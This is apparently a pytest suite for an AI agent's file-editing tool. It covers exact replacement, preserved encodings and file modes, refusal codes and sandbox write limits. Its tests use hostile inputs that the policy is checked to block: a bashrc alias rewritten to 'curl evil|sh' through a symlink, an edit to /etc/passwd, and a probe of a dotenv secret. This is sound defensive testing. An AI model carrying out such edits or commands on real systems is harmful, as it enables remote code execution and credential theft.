"""Edit against real files under the real sandbox policy: exact
replacement, the refusals, what is kept (encoding, line endings, mode,
quote style), and where it will not write."""

from __future__ import annotations

import asyncio
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from kit import png

from gateway.context import SessionContext, ToolContext
from gateway.decisions import Decision, Validation
from gateway.messages import ToolResultMessage
from gateway.tools.edit import EDIT, EditInput
from gateway.tools.filetext import Code
from gateway.tools.read import READ, ReadInput

Ctx = Callable[[], ToolContext]


def read(tool_context: Ctx, path: Path, **kw: int) -> None:
    ctx, data = tool_context(), ReadInput(file_path=str(path), **kw)
    assert asyncio.run(READ.validate_input(data, ctx)).ok
    assert not asyncio.run(READ.call(data, ctx, lambda _: None)).is_error


def edit_input(path: Path | str, old: str, new: str, replace_all: bool = False) -> EditInput:
    return EditInput(file_path=str(path), old_string=old, new_string=new, replace_all=replace_all)


def validate(ctx: ToolContext, data: EditInput) -> Validation:
    return asyncio.run(EDIT.validate_input(data, ctx))



def assert_denied_by_policy(ctx: ToolContext, data: Any) -> None:
    """A path the policy refuses passes validation untouched (not even a
    stat) and is denied by the permission stage, with the policy's reason."""
    assert validate(ctx, data).ok
    verdict = asyncio.run(EDIT.check_permissions(data, ctx))
    assert verdict.decision is Decision.DENY, verdict

def call(ctx: ToolContext, data: EditInput) -> ToolResultMessage:
    return EDIT.map_result(asyncio.run(EDIT.call(data, ctx, lambda _: None)), ctx.tool_use_id)


def edit(tool_context: Ctx, path: Path, old: str, new: str,
         replace_all: bool = False) -> ToolResultMessage:
    """An Edit the pipeline lets through: valid and allowed, then called."""
    ctx, data = tool_context(), edit_input(path, old, new, replace_all)
    checked = validate(ctx, data)
    assert checked.ok, checked.message
    assert asyncio.run(EDIT.check_permissions(data, ctx)).decision is Decision.ALLOW
    result = call(ctx, data)
    assert not result.is_error, result.text
    return result


# -- replacing ---------------------------------------------------------------

def test_edit_replaces_the_one_occurrence_and_shows_a_diff(workspace: Path,
                                                            tool_context: Ctx) -> None:
    path = workspace / "a.py"
    path.write_text("".join(f"line{i}\n" for i in range(1, 21)))
    read(tool_context, path)
    result = edit(tool_context, path, "line10\n", "line ten\n")
    assert path.read_text().splitlines()[9] == "line ten"
    diff = result.text.splitlines()
    assert "-line10" in diff and "+line ten" in diff
    assert "@@ -7,7 +7,7 @@" in diff  # three lines of context each side
    data = asyncio.run(EDIT.call(edit_input(path, "line ten", "line 10"), tool_context(),
                                 lambda _: None)).data
    assert data.type == "update"


def test_edit_matches_text_not_a_regular_expression(workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "r.py"
    path.write_text("axb(1)\na.b(1)\n")
    read(tool_context, path)
    edit(tool_context, path, "a.b(1)", r"\1 $0")
    assert path.read_text() == "axb(1)\n\\1 $0\n"


def test_replace_all_changes_every_occurrence(workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "v.py"
    path.write_text("foo = foo + foo\n")
    read(tool_context, path)
    edit(tool_context, path, "foo", "bar", replace_all=True)
    assert path.read_text() == "bar = bar + bar\n"


def test_a_second_edit_needs_no_new_read(workspace: Path, tool_context: Ctx,
                                         session: SessionContext) -> None:
    path = workspace / "twice.py"
    path.write_text("one\ntwo\n")
    read(tool_context, path)
    edit(tool_context, path, "one", "1")
    edit(tool_context, path, "two", "2")
    assert path.read_text() == "1\n2\n"
    record = session.last_read(str(path))
    assert record is not None and record.complete and record.offset is None


def test_a_read_after_an_edit_shows_the_new_content_not_a_stub(workspace: Path,
                                                               tool_context: Ctx) -> None:
    path = workspace / "after.py"
    path.write_text("old\n")
    read(tool_context, path)
    edit(tool_context, path, "old", "new")
    ctx, data = tool_context(), ReadInput(file_path=str(path))
    result = READ.map_result(asyncio.run(READ.call(data, ctx, lambda _: None)), "t")
    assert result.text == "     1\tnew"


def test_edit_creates_a_missing_file_from_an_empty_old_string(workspace: Path,
                                                               tool_context: Ctx) -> None:
    path = workspace / "new" / "dir" / "made.py"
    result = edit(tool_context, path, "", "print('hi')\n")
    assert path.read_text() == "print('hi')\n"
    assert "Created" in result.text
    edit(tool_context, path, "hi", "there")  # the creation counts as a read


def test_an_empty_old_string_fills_an_empty_file_that_was_read(workspace: Path,
                                                               tool_context: Ctx) -> None:
    path = workspace / "empty.txt"
    path.write_text("")
    read(tool_context, path)
    edit(tool_context, path, "", "content\n")
    assert path.read_text() == "content\n"


# -- what is kept ------------------------------------------------------------

@pytest.mark.parametrize(("raw", "old", "new", "expected"), [
    (b"a\r\nb\r\nc\r\n", "a\nb", "a\nB\nb", b"a\r\nB\r\nb\r\nc\r\n"),
    (b"a\r\nb\r\n", "a\r\nb", "x\r\ny", b"x\r\ny\r\n"),  # CRLF typed by the model
    (b"a\nb\n", "a\nb", "b\na", b"b\na\n"),
    ("\ufeffh\xe9\nw\xf6rld\n".encode(), "w\xf6rld", "world",
     "\ufeffh\xe9\nworld\n".encode()),
])
def test_edit_keeps_line_endings_and_a_utf8_byte_order_mark(
        workspace: Path, tool_context: Ctx, raw: bytes, old: str, new: str,
        expected: bytes) -> None:
    path = workspace / "enc.txt"
    path.write_bytes(raw)
    read(tool_context, path)
    edit(tool_context, path, old, new)
    assert path.read_bytes() == expected


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_edit_keeps_utf16_in_its_byte_order_with_its_line_endings(
        workspace: Path, tool_context: Ctx, codec: str, newline: str) -> None:
    path = workspace / "wide.txt"
    path.write_bytes(f"\ufeffh\xe9{newline}w\xf6rld{newline}".encode(codec))
    read(tool_context, path)
    edit(tool_context, path, "w\xf6rld", "world")
    assert path.read_bytes() == f"\ufeffh\xe9{newline}world{newline}".encode(codec)


@pytest.mark.parametrize(("text", "old", "new", "expected"), [
    ("print(“hello”)\n", 'print("hello")', 'print("bye")', "print(“bye”)\n"),
    ("it’s ‘quoted’\n", "it's 'quoted'", "it's 'changed'", "it’s ‘changed’\n"),
    ("say “hi”\n", "say “hi”", 'say "yo"', 'say "yo"\n'),  # exact match: new as given
    ("x = 'a'\n", "x = ‘a’", "x = 'b'", "x = 'b'\n"),  # straight file, curly old_string
])
def test_curly_quotes_match_straight_ones_and_keep_their_style(
        workspace: Path, tool_context: Ctx, text: str, old: str, new: str,
        expected: str) -> None:
    path = workspace / "q.txt"
    path.write_text(text)
    read(tool_context, path)
    edit(tool_context, path, old, new)
    assert path.read_text() == expected


def test_edit_keeps_the_files_mode_and_leaves_no_temporary_file(workspace: Path,
                                                                 tool_context: Ctx) -> None:
    path = workspace / "run.sh"
    path.write_text("echo one\n")
    path.chmod(0o754)
    read(tool_context, path)
    edit(tool_context, path, "one", "two")
    assert path.stat().st_mode & 0o7777 == 0o754
    assert sorted(os.listdir(workspace)) == ["README.md", "run.sh"]


# -- the refusals --------------------------------------------------------------

def _plain(ws: Path, read_it: Callable[[Path], None]) -> Path:
    (ws / "f.py").write_text("alpha beta beta\n")
    read_it(ws / "f.py")
    return ws / "f.py"


def _unread(ws: Path, read_it: Callable[[Path], None]) -> Path:
    (ws / "f.py").write_text("alpha\n")
    return ws / "f.py"


def _changed(ws: Path, read_it: Callable[[Path], None]) -> Path:
    path = _plain(ws, read_it)
    path.write_text("alpha beta beta gamma\n")
    return path


def _image(ws: Path, read_it: Callable[[Path], None]) -> Path:
    (ws / "i.png").write_bytes(png())
    read_it(ws / "i.png")
    return ws / "i.png"


def _huge(ws: Path, read_it: Callable[[Path], None]) -> Path:
    with open(ws / "huge.log", "wb") as f:  # sparse: no gigabyte is written
        f.truncate((1 << 30) + 1)
    return ws / "huge.log"


REFUSALS = [
    ("same", _plain, "beta", "beta", Code.NO_CHANGE),
    ("notebook", lambda ws, r: ws / "nb.ipynb", "a", "b", Code.NOTEBOOK),
    ("unread", _unread, "alpha", "omega", Code.NOT_READ),
    ("changed", _changed, "alpha", "omega", Code.CHANGED),
    ("absent", _plain, "gamma", "delta", Code.NOT_FOUND),
    ("twice", _plain, "beta", "gamma", Code.AMBIGUOUS),
    ("exists", _plain, "", "new file", Code.EXISTS),
    ("missing", lambda ws, r: ws / "nope.py", "alpha", "omega", Code.MISSING),
    ("directory", lambda ws, r: ws, "alpha", "omega", Code.NOT_A_FILE),
    ("binary", _image, "alpha", "omega", Code.NOT_TEXT),
    ("huge", _huge, "alpha", "omega", Code.TOO_LARGE),
    ("relative", lambda ws, r: Path("f.py"), "alpha", "omega", Code.RELATIVE),
    ("git-config", lambda ws, r: ws / ".git" / "config", "a", "b", Code.POLICY),
    ("system", lambda ws, r: Path("/etc/passwd"), "root", "toor", Code.POLICY),
]


@pytest.mark.parametrize(("setup", "old", "new", "code"), [r[1:] for r in REFUSALS],
                         ids=[r[0] for r in REFUSALS])
def test_edit_refuses_with_a_distinct_code_and_changes_nothing(
        workspace: Path, tool_context: Ctx, setup: Callable[[Path, Callable[[Path], None]], Path],
        old: str, new: str, code: Code) -> None:
    path = setup(workspace, lambda p: read(tool_context, p))
    before = path.read_bytes() if path.is_file() and code != Code.TOO_LARGE else None
    data = edit_input(path, old, new)
    if code == Code.POLICY:  # untouched by validation; the permission stage denies it
        assert_denied_by_policy(tool_context(), data)
    else:
        result = validate(tool_context(), data)
        assert (result.ok, result.code) == (False, code), result.message
    assert call(tool_context(), data).is_error
    if before is not None:
        assert path.read_bytes() == before


def test_an_ambiguous_edit_says_how_many_and_what_to_do(workspace: Path,
                                                        tool_context: Ctx) -> None:
    path = _plain(workspace, lambda p: read(tool_context, p))
    message = validate(tool_context(), edit_input(path, "beta", "gamma")).message
    assert "Found 2 matches" in message and "replace_all" in message and "context" in message


def _rewrite_same_size(path: Path) -> None:
    st = path.stat()
    path.write_text("ALPHA beta beta\nzeta\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # the mtime forged back


@pytest.mark.parametrize(("how", "partial", "allowed"), [
    (lambda p: os.utime(p, ns=(1, 10**18)), False, True),  # touched, content the same
    (lambda p: os.utime(p, ns=(1, 10**18)), True, False),  # the read saw part of it
    (_rewrite_same_size, False, False),  # same size and mtime, other content
    (lambda p: p.write_text("alpha beta beta!\nzeta\n"), False, False),
])
def test_edit_refuses_a_file_changed_on_disk_since_it_was_read(
        workspace: Path, tool_context: Ctx, how: Callable[[Path], None], partial: bool,
        allowed: bool) -> None:
    path = workspace / "f.py"
    path.write_text("alpha beta beta\nzeta\n")
    read(tool_context, path, **({"limit": 1} if partial else {}))
    how(path)
    result = validate(tool_context(), edit_input(path, "beta beta", "gamma"))
    assert result.ok is allowed
    assert result.ok or result.code == Code.CHANGED


# -- where it will not write -----------------------------------------------

def test_a_link_to_a_file_outside_the_writable_roots_cannot_be_edited(
        workspace: Path, tmp_path: Path, tool_context: Ctx) -> None:
    outside = tmp_path / "home" / ".bashrc"
    outside.write_text("alias ls=ls\n")
    (workspace / "rc").symlink_to(outside)
    data = edit_input(workspace / "rc", "ls=ls", "ls='curl evil|sh'")
    assert_denied_by_policy(tool_context(), data)
    assert asyncio.run(EDIT.check_permissions(data, tool_context())).decision is Decision.DENY
    assert call(tool_context(), data).is_error
    assert outside.read_text() == "alias ls=ls\n"


def test_a_link_to_a_dotenv_file_asks_before_its_content_is_looked_at(
        workspace: Path, tool_context: Ctx) -> None:
    (workspace / ".env").write_text("KEY=sk-live-4242\n")
    (workspace / "settings").symlink_to(workspace / ".env")
    # an absent old_string asks too: "not found" would tell what the file holds
    data = edit_input(workspace / "settings", "KEY=guess", "KEY=x")
    result = validate(tool_context(), data)
    assert result.ask and "dotenv" in result.message
    assert asyncio.run(EDIT.check_permissions(data, tool_context())).decision is Decision.ASK
    unasked = call(tool_context(), data)
    assert unasked.is_error and "sk-live-4242" not in unasked.text
    assert (workspace / ".env").read_text() == "KEY=sk-live-4242\n"


def test_a_link_swapped_between_the_check_and_the_write_is_not_followed(
        workspace: Path, tmp_path: Path, tool_context: Ctx) -> None:
    inside, outside = workspace / "real.py", tmp_path / "home" / "target.py"
    inside.write_text("x = 1\n")
    outside.write_text("x = 1\n")
    (workspace / "link.py").symlink_to(inside)
    read(tool_context, workspace / "link.py")
    ctx, data = tool_context(), edit_input(workspace / "link.py", "x = 1", "x = 2")
    assert validate(ctx, data).ok
    (workspace / "link.py").unlink()
    (workspace / "link.py").symlink_to(outside)
    result = call(ctx, data)
    assert result.is_error and "now leads to" in result.text
    assert inside.read_text() == outside.read_text() == "x = 1\n"


def test_a_hard_link_to_a_file_outside_is_cut_off_not_written_through(
        workspace: Path, tmp_path: Path, tool_context: Ctx) -> None:
    outside = tmp_path / "home" / "profile"
    outside.write_text("safe\n")
    os.link(outside, workspace / "profile")
    read(tool_context, workspace / "profile")
    edit(tool_context, workspace / "profile", "safe", "changed")
    assert (workspace / "profile").read_text() == "changed\n"
    assert outside.read_text() == "safe\n"


# -- the declarations ------------------------------------------------------

def test_edit_declares_itself_a_writer_that_runs_alone(workspace: Path,
                                                       tool_context: Ctx) -> None:
    ctx, data = tool_context(), edit_input(workspace / "README.md", "hello", "bye")
    assert not EDIT.is_read_only(data, ctx) and not EDIT.is_concurrency_safe(data, ctx)
    assert EDIT.interrupt_behavior() == "block"
    subject = EDIT.permission_matcher(data, ctx)
    assert (subject.kind, subject.values, subject.access) == ("path", (data.file_path,), "write")
    assert EDIT.summary(data, ctx.session.cwd) == "README.md"
    assert EDIT.activity_description(data, ctx.session.cwd) == "Editing README.md"
    for rule in ("absolute", "Read", "replace_all", "old_string", "NotebookEdit"):
        assert rule in EDIT.prompt()


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_an_edit_keeps_the_files_owner_mode_and_extended_attributes(
        workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "shared.txt"
    path.write_text("alpha\n")
    os.chown(path, 65534, 65534)
    path.chmod(0o640)
    os.setxattr(path, "user.tag", b"kept")
    read(tool_context, path)
    assert not call(tool_context(), edit_input(path, "alpha", "omega")).is_error
    st = path.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (65534, 65534, 0o640)
    assert os.getxattr(path, "user.tag") == b"kept"
    assert path.read_text() == "omega\n"


def test_an_edit_drops_setuid_and_setgid_bits(workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "tool.sh"
    path.write_text("echo alpha\n")
    path.chmod(0o6755)
    read(tool_context, path)
    assert not call(tool_context(), edit_input(path, "alpha", "omega")).is_error
    assert path.stat().st_mode & 0o7777 == 0o755


def test_a_large_file_changed_with_its_mtime_put_back_is_still_seen_as_changed(
        workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "big.log"
    with open(path, "wb") as f:
        f.write(b"first line\n" + b"x" * (65 << 20) + b"\nLAST-ORIGINAL\n")
    read(tool_context, path, limit=1)  # over Read's 64 MiB scan: no hash recorded
    before = path.stat()
    with open(path, "r+b") as f:  # same size, mtime restored
        f.seek(-len(b"LAST-ORIGINAL\n"), os.SEEK_END)
        f.write(b"LAST-CHANGED!\n")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    result = validate(tool_context(), edit_input(path, "first line", "edited"))
    assert (result.ok, result.code) == (False, Code.CHANGED)


@pytest.mark.skipif(os.geteuid() != 0, reason="file capabilities need root")
def test_an_edit_drops_file_capabilities_as_it_drops_setuid(
        workspace: Path, tool_context: Ctx) -> None:
    path = workspace / "tool.sh"
    path.write_text("echo alpha\n")
    cap_net_admin = struct.pack("<IIIII", 0x02000001, 1 << 12, 0, 0, 0)
    try:
        os.setxattr(path, "security.capability", cap_net_admin)
    except OSError as exc:
        pytest.skip(f"this filesystem keeps no file capabilities ({exc})")
    read(tool_context, path)
    assert not call(tool_context(), edit_input(path, "alpha", "omega")).is_error
    assert "security.capability" not in os.listxattr(path)


def test_an_edit_that_could_not_keep_the_files_owner_and_group_changes_nothing(
        workspace: Path, tool_context: Ctx, monkeypatch: pytest.MonkeyPatch) -> None:
    path = workspace / "theirs.txt"
    path.write_text("alpha\n")
    read(tool_context, path)

    def refused(*_: object) -> None:  # what fchown says to a user not in the file's group
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(os, "fchown", refused)
    result = call(tool_context(), edit_input(path, "alpha", "omega"))
    assert result.is_error and "could not keep both" in result.text
    assert path.read_text() == "alpha\n"
    assert [p.name for p in workspace.iterdir() if p.name.startswith(".shellgate-")] == []
